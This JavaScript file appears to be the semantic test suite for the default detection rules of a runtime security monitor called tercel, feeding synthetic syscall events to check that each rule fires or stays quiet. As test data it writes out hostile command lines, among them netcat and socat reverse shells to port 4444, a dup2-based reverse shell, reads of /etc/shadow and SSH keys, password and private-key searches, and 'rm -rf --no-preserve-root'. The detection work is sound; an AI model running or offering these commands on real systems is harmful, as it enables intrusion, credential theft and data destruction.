// Semantic checks of tercel's default rules (rules/*.yaml): synthetic exit events, as the
// live probe sends them, go through the real state tables and the compiled rules, and each
// scenario checks that the rule it is about fires (or stays quiet). Complements the live
// cases in rules/tests/, which need root, the probe and podman. Uses the compiled modules
// in dist/ (fields, rules loader, state and its test event builder), so it checks that
// the rules mean what they say with tercel's own field extractors.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';

const repo = resolve(import.meta.dirname, '..');
const D = resolve(repo, 'dist');
const { createDefaultRegistry } = await import(`${D}/fields/index.js`);
const { syscallBinders } = await import(`${D}/fields/syscall/binders.js`);
const { syscallEventCatalog } = await import(`${D}/events/event-catalog.js`);
const { RulesLoader } = await import(`${D}/rules/index.js`);
const { SyscallState } = await import(`${D}/state/syscall-state.js`);
const { testEvent } = await import(`${D}/state/test-event-builder.js`);
const { newThreadRecord } = await import(`${D}/capture/scap-header-records.js`);

const registry = createDefaultRegistry(syscallBinders);
const loader = new RulesLoader({ registry, catalog: syscallEventCatalog });
for (const f of ['tercel_rules.yaml', 'tercel-incubating_rules.yaml', 'tercel-sandbox_rules.yaml']) {
  const r = loader.load(f, readFileSync(resolve(repo, 'rules', f), 'utf8'));
  if (r.errors.length) throw new Error(`${f}: ${r.errors.map((e) => e.message).join('; ')}`);
}
const rules = loader.rules();

const CID = 'a'.repeat(64);
let nextTid = 1000;
function state() {
  const s = new SyscallState({ hostname: 'h' });
  const init = { ...newThreadRecord(), tid: 1, pid: 1, ptid: 0, comm: 'systemd', exe: '/sbin/init', exepath: '/sbin/init', cwd: '/', sid: 1, vpid: 1, vtid: 1 };
  const runner = { ...newThreadRecord(), tid: 100, pid: 100, ptid: 1, comm: 'node', exe: 'node', exepath: '/usr/bin/node', cwd: '/root', sid: 100, vpid: 100, vtid: 100 };
  s.loadHeader({ threads: [init, runner], fds: [], users: [{ uid: 0, gid: 0, name: 'root', homedir: '/root', shell: '/bin/bash' }, { uid: 65534, gid: 65534, name: 'nobody', homedir: '/', shell: '/bin/false' }], groups: [] });
  return s;
}

const hits = [];
function feed(s, id, tid, params) {
  const evt = testEvent(id, tid, params);
  const ctx = s.process(evt);
  const name = syscallEventCatalog.name(evt.type);
  for (const r of rules) {
    if (!r.eventTypes || (!r.eventTypes.all && !r.eventTypes.names.has(name))) continue;
    let m = false;
    try { m = r.match(ctx); } catch (e) { throw new Error(`${r.name} threw: ${e.message}`); }
    if (m) hits.push(r.name);
  }
  return ctx;
}

/** Spawns (clone+execve) a child of `ptid`; returns its tid. */
function spawn(s, ptid, comm, { args = [], exepath, uid = 0, container = false, flags = 0, tty = 0, vpid, cwd = '/root', env = [] } = {}) {
  const tid = nextTid++;
  const cg = container ? [`cpuset=/machine.slice/libpod-${CID}.scope`] : ['cpuset=/'];
  if (vpid === undefined) feed(s, 'SYSCALL_CLONE_20_X', ptid, { res: tid, exe: 'x', args: [], tid: ptid, pid: ptid, ptid: 1, cwd: '', comm: 'x', cgroups: cg, flags: 0, uid, gid: uid, vtid: ptid, vpid: ptid });
  feed(s, 'SYSCALL_CLONE_20_X', tid, { res: 0, exe: 'x', args: [], tid, pid: tid, ptid, cwd: '', comm: 'x', cgroups: cg, flags: vpid !== undefined ? 536870912 : 0, uid, gid: uid, vtid: vpid ?? tid, vpid: vpid ?? tid });
  exec(s, tid, comm, { args, exepath, uid, container, flags, tty, cwd, env });
  return tid;
}
function exec(s, tid, comm, { args = [], exepath, uid = 0, container = false, flags = 0, tty = 0, cwd = '/root', env = [] } = {}) {
  const cg = container ? [`cpuset=/machine.slice/libpod-${CID}.scope`] : ['cpuset=/'];
  const path = exepath ?? `/opt/tercel-tests/bin/${comm}`;
  feed(s, 'SYSCALL_EXECVE_19_X', tid, { res: 0, exe: path, args, tid, pid: tid, ptid: 0, cwd, comm, cgroups: cg, env, tty, loginuid: uid, flags, uid, gid: uid, trusted_exepath: path, filename: path });
}
const O = { RDONLY: 1, WRONLY: 2, RDWR: 3, CREAT: 4, APPEND: 8, TRUNC: 256, CREATED: 16384 };
function open(s, tid, name, flags, fd = 5) { return feed(s, 'SYSCALL_OPENAT_2_X', tid, { fd, dirfd: -100, name, flags, mode: 0o644, dev: 0, ino: 0 }); }
function tuple(dport) {
  const b = Buffer.alloc(13); b[0] = 2; b.writeUInt32BE(0x7f000001, 1); b.writeUInt16LE(40000, 5); b.writeUInt32BE(0xc000020a, 7); b.writeUInt16LE(dport, 11); return b;
}
function connect(s, tid, dport, fd = 3, flags = 0) {
  feed(s, 'SOCKET_SOCKET_X', tid, { fd, domain: 2, type: 1, proto: 0, flags });
  feed(s, 'SOCKET_CONNECT_X', tid, { res: 0, tuple: tuple(dport), fd, addr: undefined });
}

const cases = [];
function scenario(name, positive, rule, fn, todo) { cases.push({ name, positive, rule, fn, todo }); }

scenario('cat /etc/shadow', true, 'Credential File Read by Unexpected Program', (s) => { const t = spawn(s, 100, 'cat', { args: ['/etc/shadow'] }); open(s, t, '/etc/shadow', O.RDONLY); });
scenario('sshd /etc/shadow', false, 'Credential File Read by Unexpected Program', (s) => { const t = spawn(s, 100, 'sshd'); open(s, t, '/etc/shadow', O.RDONLY); });
scenario('dpkg>grpck>cat gshadow', false, 'Credential File Read by Unexpected Program', (s) => { const a = spawn(s, 100, 'dpkg'); const b = spawn(s, a, 'grpck'); const t = spawn(s, b, 'cat'); open(s, t, '/etc/gshadow', O.RDONLY); });
scenario('tty shell in container', true, 'Interactive Terminal Shell in Container', (s) => { spawn(s, 100, 'bash', { container: true, tty: 34816, exepath: '/bin/bash', vpid: 7 }); });
scenario('tty shell in container vpid1', false, 'Interactive Terminal Shell in Container', (s) => { spawn(s, 100, 'bash', { container: true, tty: 34816, exepath: '/bin/bash', vpid: 1 }); });
scenario('nginx > sh', true, 'Shell Started by Network Service', (s) => { const a = spawn(s, 100, 'nginx'); spawn(s, a, 'sh', { args: ['-c', 'id'], exepath: '/bin/dash' }); });
scenario('postgres > sh pg_wal', false, 'Shell Started by Network Service', (s) => { const a = spawn(s, 100, 'postgres'); spawn(s, a, 'sh', { args: ['-c', 'cp pg_wal/0001 /x'], exepath: '/bin/dash' }); });
scenario('dup2 socket to 0', true, 'Network Socket Redirected to Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444); feed(s, 'SYSCALL_DUP2_X', t, { res: 0, oldfd: 3, newfd: 0 }); });
scenario('dup2 socket to 10', false, 'Network Socket Redirected to Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444); feed(s, 'SYSCALL_DUP2_X', t, { res: 10, oldfd: 3, newfd: 10 }); });
scenario('xinetd dup2', false, 'Network Socket Redirected to Standard Stream', (s) => { const t = spawn(s, 100, 'xinetd'); connect(s, t, 4444); feed(s, 'SYSCALL_DUP2_X', t, { res: 0, oldfd: 3, newfd: 0 }); });
scenario('reverse shell exec', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); });
// Python (and most runtimes) create sockets close-on-exec; dup2 clears that flag on the
// new descriptor, so the shell still has the socket as its stdio.
scenario('reverse shell exec, close-on-exec socket', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444, 3, 4096); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); });
scenario('nc -e', true, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'nc', { args: ['-lvp', '4444', '-e', '/bin/sh'] }); });
scenario('nc -zv', false, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'nc', { args: ['-zv', '127.0.0.1', '22'] }); });
scenario('busybox nc -e', true, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'busybox', { args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] }); });
scenario('exec /dev/shm', true, 'Program Executed from Shared Memory', (s) => { spawn(s, 100, 'payload', { exepath: '/dev/shm/payload' }); });
scenario('memfd exec', true, 'Fileless Program Executed from Memory', (s) => { spawn(s, 100, 'payload', { flags: 4 }); });
scenario('upper layer exec', true, 'New Executable Run in Container', (s) => { spawn(s, 100, 'dropped', { container: true, flags: 2, vpid: 9 }); });
scenario('upper layer exec host', false, 'New Executable Run in Container', (s) => { spawn(s, 100, 'dropped', { flags: 2 }); });
scenario('xmrig', true, 'Cryptocurrency Miner Started', (s) => { spawn(s, 100, 'xmrig'); });
scenario('stratum', true, 'Cryptocurrency Miner Started', (s) => { spawn(s, 100, 'w', { args: ['-o', 'stratum+tcp://p:3333'] }); });
scenario('rm no preserve', true, 'Recursive Delete with Root Protection Disabled', (s) => { spawn(s, 100, 'rm', { args: ['-rf', '--no-preserve-root', '/x'] }); });
scenario('ptrace poke', true, 'Process Memory Modified with ptrace', (s) => { const t = spawn(s, 100, 'injector'); feed(s, 'SYSCALL_PTRACE_X', t, { res: 0, addr: Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0]), data: Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0]), request: 6, pid: 5 }); });
scenario('ptrace attach', true, 'Process Attached with ptrace', (s) => { const t = spawn(s, 100, 'dumper'); feed(s, 'SYSCALL_PTRACE_X', t, { res: 0, addr: Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0]), data: Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0]), request: 11, pid: 5 }); });
scenario('gdb poke', false, 'Process Memory Modified with ptrace', (s) => { const t = spawn(s, 100, 'gdb'); feed(s, 'SYSCALL_PTRACE_X', t, { res: 0, addr: Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0]), data: Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0]), request: 6, pid: 5 }); });
scenario('finit_module host', true, 'Kernel Module Load by Unexpected Program', (s) => { const t = spawn(s, 100, 'loader'); feed(s, 'SYSCALL_FINIT_MODULE_X', t, { res: -8, fd: 3, uargs: '', flags: 0 }); });
scenario('finit_module container', true, 'Kernel Module Load from Container', (s) => { const t = spawn(s, 100, 'insmod', { container: true, vpid: 5 }); feed(s, 'SYSCALL_FINIT_MODULE_X', t, { res: -1, fd: 3, uargs: '', flags: 0 }); });
scenario('modprobe', false, 'Kernel Module Load by Unexpected Program', (s) => { const t = spawn(s, 100, 'modprobe'); feed(s, 'SYSCALL_FINIT_MODULE_X', t, { res: 0, fd: 3, uargs: '', flags: 0 }); });
scenario('bpf container', true, 'BPF Program Load from Container', (s) => { const t = spawn(s, 100, 'loader', { container: true, vpid: 5 }); feed(s, 'SYSCALL_BPF_2_X', t, { fd: -1, cmd: 5 }); });
scenario('bpf host', true, 'BPF Program Loaded by Unexpected Host Program', (s) => { const t = spawn(s, 100, 'loader'); feed(s, 'SYSCALL_BPF_2_X', t, { fd: 7, cmd: 5 }); });
scenario('bpf host map', false, 'BPF Program Loaded by Unexpected Host Program', (s) => { const t = spawn(s, 100, 'loader'); feed(s, 'SYSCALL_BPF_2_X', t, { fd: 7, cmd: 0 }); });
scenario('release_agent', true, 'Cgroup Release Agent Written', (s) => { const t = spawn(s, 100, 'x'); open(s, t, '/tmp/cg/release_agent', O.WRONLY | O.APPEND); });
scenario('mount ext4 in container', true, 'Host Filesystem Mounted in Container', (s) => { const t = spawn(s, 100, 'mount', { container: true, vpid: 5 }); feed(s, 'SYSCALL_MOUNT_X', t, { res: -1, dev: '/dev/sdz9', dir: '/mnt', type: 'ext4', flags: 0 }); });
scenario('mount tmpfs in container', false, 'Host Filesystem Mounted in Container', (s) => { const t = spawn(s, 100, 'mount', { container: true, vpid: 5 }); feed(s, 'SYSCALL_MOUNT_X', t, { res: 0, dev: 'tmpfs', dir: '/mnt', type: 'tmpfs', flags: 0 }); });
scenario('setns in container', true, 'Namespace Joined from Container', (s) => { const t = spawn(s, 100, 'joiner', { container: true, vpid: 5 }); feed(s, 'SYSCALL_SETNS_X', t, { res: 0, fd: 3, nstype: 0 }); });
scenario('nsenter in container', true, 'Host Access Tool Run in Container', (s) => { spawn(s, 100, 'nsenter', { container: true, vpid: 5 }); });
scenario('packet socket container', true, 'Packet Socket Opened in Container', (s) => { const t = spawn(s, 100, 'sniffer', { container: true, vpid: 5 }); feed(s, 'SOCKET_SOCKET_X', t, { fd: 3, domain: 17, type: 3, proto: 768, flags: 0 }); });
scenario('useradd container', true, 'Account Management in Container', (s) => { spawn(s, 100, 'useradd', { container: true, vpid: 5 }); });
scenario('log trunc', true, 'Log File Truncated', (s) => { const t = spawn(s, 100, 'cleaner'); open(s, t, '/var/log/x.log', O.WRONLY | O.TRUNC); });
scenario('log trunc created', false, 'Log File Truncated', (s) => { const t = spawn(s, 100, 'cleaner'); open(s, t, '/var/log/x.log', O.WRONLY | O.TRUNC | O.CREAT | O.CREATED); });
scenario('symlink shadow', true, 'Link Created to Credential File', (s) => { const t = spawn(s, 100, 'ln'); feed(s, 'SYSCALL_SYMLINKAT_X', t, { res: 0, target: '/etc/shadow', linkdirfd: -100, linkpath: '/tmp/l' }); });
scenario('linkat shadow', true, 'Link Created to Credential File', (s) => { const t = spawn(s, 100, 'ln'); feed(s, 'SYSCALL_LINKAT_2_X', t, { res: 0, olddir: -100, oldpath: '/etc/shadow', newdir: -100, newpath: '/etc/.x', flags: 0 }); });
scenario('traversal', true, 'Sensitive File Reached through Path Traversal', (s) => { const t = spawn(s, 100, 'php-fpm8.2', { cwd: '/var/www/html/' }); open(s, t, '../../../../etc/passwd', O.RDONLY); });
scenario('traversal by bash', false, 'Sensitive File Reached through Path Traversal', (s) => { const t = spawn(s, 100, 'bash', { cwd: '/var/www/html/' }); open(s, t, '../../../../etc/passwd', O.RDONLY); });
scenario('setuid chmod', true, 'Setuid Bit Set on File', (s) => { const t = spawn(s, 100, 'chmod'); feed(s, 'SYSCALL_FCHMODAT_X', t, { res: 0, dirfd: -100, filename: '/tmp/x', mode: 0o4755 }); });
scenario('setgid chmod', true, 'Setgid Bit Set on File', (s) => { const t = spawn(s, 100, 'chmod'); feed(s, 'SYSCALL_FCHMODAT_X', t, { res: 0, dirfd: -100, filename: '/tmp/x', mode: 0o2755 }); });
scenario('setuid by image unpacking', false, 'Setuid Bit Set on File', (s) => { const a = spawn(s, 100, 'podman'); const t = spawn(s, a, 'exe'); feed(s, 'SYSCALL_FCHMODAT_X', t, { res: 0, dirfd: -100, filename: '/var/lib/containers/x/usr/bin/su', mode: 0o4755 }); });
scenario('plain chmod', false, 'Setuid Bit Set on File', (s) => { const t = spawn(s, 100, 'chmod'); feed(s, 'SYSCALL_FCHMODAT_X', t, { res: 0, dirfd: -100, filename: '/tmp/x', mode: 0o755 }); });
scenario('passwd write', true, 'Authentication Configuration Modified', (s) => { const t = spawn(s, 100, 'tee'); open(s, t, '/etc/passwd', O.WRONLY | O.APPEND); });
scenario('pam rename', true, 'Authentication Configuration Modified', (s) => { const t = spawn(s, 100, 'mv'); feed(s, 'SYSCALL_RENAMEAT2_X', t, { res: 0, olddirfd: -100, oldpath: '/tmp/p', newdirfd: -100, newpath: '/etc/pam.d/x', flags: 0 }); });
scenario('useradd passwd', false, 'Authentication Configuration Modified', (s) => { const t = spawn(s, 100, 'useradd'); open(s, t, '/etc/passwd', O.WRONLY | O.APPEND); });
scenario('ld.so.preload', true, 'Dynamic Linker Preload Configured', (s) => { const t = spawn(s, 100, 'tee'); open(s, t, '/etc/ld.so.preload', O.WRONLY | O.APPEND | O.CREAT); });
scenario('usr/bin write', true, 'Binary Directory Modified', (s) => { const t = spawn(s, 100, 'cp'); open(s, t, '/usr/bin/x', O.WRONLY | O.CREAT | O.CREATED); });
scenario('dpkg usr/bin write', false, 'Binary Directory Modified', (s) => { const t = spawn(s, 100, 'dpkg'); open(s, t, '/usr/bin/x', O.WRONLY | O.CREAT | O.CREATED); });
scenario('make install', false, 'Binary Directory Modified', (s) => { const a = spawn(s, 100, 'make'); const t = spawn(s, a, 'install'); open(s, t, '/usr/local/bin/x', O.WRONLY | O.CREAT | O.CREATED); });
scenario('boot write', true, 'Boot Directory Modified', (s) => { const t = spawn(s, 100, 'cp'); open(s, t, '/boot/x', O.WRONLY | O.CREAT | O.CREATED); });
scenario('dev create', true, 'Regular File Created below /dev', (s) => { const t = spawn(s, 100, 'x'); open(s, t, '/dev/x', O.WRONLY | O.CREAT | O.CREATED); });
scenario('dev null', false, 'Regular File Created below /dev', (s) => { const t = spawn(s, 100, 'bash'); open(s, t, '/dev/null', O.WRONLY | O.CREAT | O.TRUNC); });
scenario('cron write', true, 'Cron Schedule Modified', (s) => { const t = spawn(s, 100, 'tee'); open(s, t, '/etc/cron.d/x', O.WRONLY | O.CREAT | O.CREATED); });
scenario('uffd nobody', true, 'Userfaultfd Created by Unprivileged User', (s) => { const t = spawn(s, 100, 'exploit', { uid: 65534 }); feed(s, 'SYSCALL_USERFAULTFD_X', t, { res: 3, flags: 0 }); });
scenario('uffd root', false, 'Userfaultfd Created by Unprivileged User', (s) => { const t = spawn(s, 100, 'exploit'); feed(s, 'SYSCALL_USERFAULTFD_X', t, { res: 3, flags: 0 }); });
scenario('shell in container', true, 'Shell Started in Container', (s) => { spawn(s, 100, 'sh', { container: true, vpid: 5, exepath: '/bin/sh' }); });
scenario('apt-get in container', true, 'Package Manager Run in Container', (s) => { spawn(s, 100, 'apt-get', { container: true, vpid: 5, args: ['install', 'x'] }); });
scenario('dpkg --print-architecture', false, 'Package Manager Run in Container', (s) => { spawn(s, 100, 'dpkg', { container: true, vpid: 5, args: ['--print-architecture'] }); });
scenario('etc write host', true, 'Host Configuration Modified by Unexpected Program', (s) => { const t = spawn(s, 100, 'dropper'); open(s, t, '/etc/x.conf', O.WRONLY | O.CREAT | O.CREATED); });
scenario('root home', true, 'File Written in Root Home Directory', (s) => { const t = spawn(s, 100, 'curl'); open(s, t, '/root/tool', O.WRONLY | O.CREAT | O.CREATED); });
scenario('root history', false, 'File Written in Root Home Directory', (s) => { const t = spawn(s, 100, 'bash'); open(s, t, '/root/.bash_history', O.WRONLY | O.APPEND); });
scenario('authorized_keys', true, 'SSH Authorized Keys Modified', (s) => { const t = spawn(s, 100, 'tee'); open(s, t, '/home/u/.ssh/authorized_keys', O.WRONLY | O.APPEND); });
scenario('bashrc', true, 'Shell Start-up File Modified', (s) => { const t = spawn(s, 100, 'tee'); open(s, t, '/home/u/.bashrc', O.WRONLY | O.APPEND); });
scenario('crontab -r', true, 'Crontab Command Changing Schedule', (s) => { spawn(s, 100, 'crontab', { args: ['-r'] }); });
scenario('crontab -l', false, 'Crontab Command Changing Schedule', (s) => { spawn(s, 100, 'crontab', { args: ['-l'] }); });
scenario('log unlink', true, 'Log File Deleted', (s) => { const t = spawn(s, 100, 'rm'); feed(s, 'SYSCALL_UNLINKAT_2_X', t, { res: 0, dirfd: -100, name: '/var/log/x.log', flags: 0 }); });
scenario('history unlink', true, 'Shell History Erased', (s) => { const t = spawn(s, 100, 'rm'); feed(s, 'SYSCALL_UNLINKAT_2_X', t, { res: 0, dirfd: -100, name: '/root/.bash_history', flags: 0 }); });
scenario('history symlink', true, 'Shell History Erased', (s) => { const t = spawn(s, 100, 'ln'); feed(s, 'SYSCALL_SYMLINKAT_X', t, { res: 0, target: '/dev/null', linkdirfd: -100, linkpath: '/root/.bash_history' }); });
scenario('exec /tmp', true, 'Program Executed from Temporary Directory', (s) => { spawn(s, 100, 'payload', { exepath: '/tmp/payload' }); });
scenario('exec /tmp under make', false, 'Program Executed from Temporary Directory', (s) => { const a = spawn(s, 100, 'make'); spawn(s, a, 'conftest', { exepath: '/tmp/b/conftest' }); });
scenario('socat exec', true, 'Socat Started with Program Execution', (s) => { spawn(s, 100, 'socat', { args: ['TCP:1.2.3.4:4444', 'EXEC:/bin/bash'] }); });
scenario('find id_rsa', true, 'Search for Private Keys or Cloud Credentials', (s) => { spawn(s, 100, 'find', { args: ['/', '-name', 'id_rsa'] }); });
scenario('shred', true, 'Disk or File Wipe Tool Run', (s) => { spawn(s, 100, 'shred', { args: ['-u', 'x'] }); });
scenario('exim > sh', true, 'Shell Started by Mail or Queue Server', (s) => { const a = spawn(s, 100, 'exim4'); spawn(s, a, 'sh', { exepath: '/bin/sh' }); });
scenario('ssh 2222', true, 'SSH Connection to Non-Standard Port', (s) => { const t = spawn(s, 100, 'ssh'); connect(s, t, 2222); });
scenario('ssh 22', false, 'SSH Connection to Non-Standard Port', (s) => { const t = spawn(s, 100, 'ssh'); connect(s, t, 22); });
scenario('ssh key read', true, 'SSH Private Key Read by Unexpected Program', (s) => { const t = spawn(s, 100, 'python3'); open(s, t, '/root/.ssh/id_rsa', O.RDONLY); });
scenario('mining port', true, 'Outbound Connection to Common Mining Port', (s) => { const t = spawn(s, 100, 'worker'); connect(s, t, 3333); });
scenario('grep password', true, 'Search for Passwords in Files', (s) => { spawn(s, 100, 'grep', { args: ['-ri', 'password', '/etc'] }); });
scenario('mkfs', true, 'Filesystem Created on Device', (s) => { spawn(s, 100, 'mkfs.ext4', { args: ['/dev/sdz'] }); });
scenario('nsenter host', true, 'Namespaces of Another Process Entered from Host', (s) => { spawn(s, 100, 'nsenter', { args: ['-t', '1', '-m'] }); });
scenario('java > sh container', true, 'Shell Started by Application Runtime in Container', (s) => { const a = spawn(s, 100, 'java', { container: true, vpid: 1 }); spawn(s, a, 'sh', { container: true, vpid: 5, exepath: '/bin/sh' }); });
scenario('unshare userns nobody', true, 'User Namespace Created by Unprivileged User', (s) => { const t = spawn(s, 100, 'exploit', { uid: 65534 }); feed(s, 'SYSCALL_UNSHARE_X', t, { res: 0, flags: 1048576 }); });
scenario('nmap container', true, 'Network Scanner or Sniffer Run in Container', (s) => { spawn(s, 100, 'nmap', { container: true, vpid: 5 }); });

/** Registers container metadata as the runtime lookup would, then starts its pid 1. */
function startContainer(s, { privileged = false, mounts = [] } = {}) {
  s.containers.set({ id: CID, type: 'podman', name: 'c', image: 'docker.io/library/busybox:1.36', imageRepo: 'docker.io/library/busybox', imageTag: '1.36', privileged,
    mounts: mounts.map(([source, dest]) => ({ source, dest, mode: '', rdwr: false, propagation: 'rprivate' })), labels: new Map() });
  spawn(s, 100, 'sleep', { container: true, vpid: 1, exepath: '/bin/sleep' });
}
scenario('privileged container', true, 'Privileged Container Started', (s) => startContainer(s, { privileged: true }));
scenario('unprivileged container', false, 'Privileged Container Started', (s) => startContainer(s));
scenario('container with /etc mounted', true, 'Container Started with Sensitive Host Mount', (s) => startContainer(s, { mounts: [['/etc', '/host-etc']] }));
scenario('container with docker socket', true, 'Container Started with Sensitive Host Mount', (s) => startContainer(s, { mounts: [['/var/run/docker.sock', '/var/run/docker.sock']] }));
scenario('container with data volume', false, 'Container Started with Sensitive Host Mount', (s) => startContainer(s, { mounts: [['/srv/data', '/data']] }));

// Rules that cannot fire yet, with the reason; the coverage test skips them.
const CANNOT_FIRE_YET = new Map([
  ['Connection to Cryptocurrency Mining Pool', 'fd.sip.name has no extractor value yet (no DNS name tracking)'],
]);

const ruleNames = new Set(rules.map((r) => r.name));
for (const c of cases) {
  test(`${c.positive ? 'fires' : 'stays quiet'}: ${c.rule} (${c.name})`, { todo: c.todo }, () => {
    assert.ok(ruleNames.has(c.rule), `no rule named ${c.rule}`);
    hits.length = 0;
    c.fn(state());
    if (c.positive) assert.ok(hits.includes(c.rule), `matched: ${[...new Set(hits)].join(', ') || 'nothing'}`);
    else assert.ok(!hits.includes(c.rule), `unexpected match of ${c.rule}`);
  });
}

test('every default rule is exercised by at least one scenario that fires it', () => {
  const fired = new Set(cases.filter((c) => c.positive).map((c) => c.rule));
  assert.deepEqual([...ruleNames].filter((r) => !fired.has(r) && !CANNOT_FIRE_YET.has(r)), []);
});
